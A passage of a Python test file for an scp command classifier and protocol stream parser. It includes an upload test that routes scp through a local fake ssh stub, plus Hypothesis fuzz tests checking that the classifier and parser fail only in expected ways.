    fake.write_text(f"#!/bin/sh\nexec {sys.executable} {tmp_path / 'fake.py'} {rec} \"$@\"\n")
    fake.chmod(0o755)
    (tmp_path / "fake.py").write_text(_FAKE_SSH)
    res = subprocess.run(["scp", "-O", "-r", "-p", "-S", str(fake), str(tree), f"h:{dst}"],
                         capture_output=True, text=True, timeout=20, env={**os.environ, "LC_ALL": "C"})
    assert res.returncode == 0, res.stderr
    cmd = (rec / "cmd").read_text()
    assert cmd == f"scp -r -p -t {dst}"
    transfer = classify(cmd)
    assert transfer == up("scp", str(dst), recursive=True)
    events = drive((rec / "src").read_bytes(), (rec / "rep").read_bytes(), transfer.paths[0])
    assert sorted((e.path, e.size) for e in events if isinstance(e, ScpFile)) == [
        (f"{dst}/tree/a.txt", 6), (f"{dst}/tree/sub/b.bin", 700)]
    assert (dst / "tree" / "sub" / "b.bin").read_bytes() == (tree / "sub" / "b.bin").read_bytes()


# --------------------------------------------------------------------------- robustness


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=80))
def test_classify_never_raises(command: str) -> None:
    t = classify(command)
    assert t is None or t.paths or t.tool == "sftp"


@settings(max_examples=300, deadline=None)
@given(st.lists(st.tuples(st.booleans(), st.binary(max_size=30)), max_size=12))
def test_garbage_only_ever_raises_scp_error(steps: list[tuple[bool, bytes]]) -> None:
    s = ScpStream("/t", max_line=64, max_pending=256)
    try:
        for is_reply, data in steps:
            s.reply(data) if is_reply else s.feed(data)
        s.close()
    except ScpError:
        pass
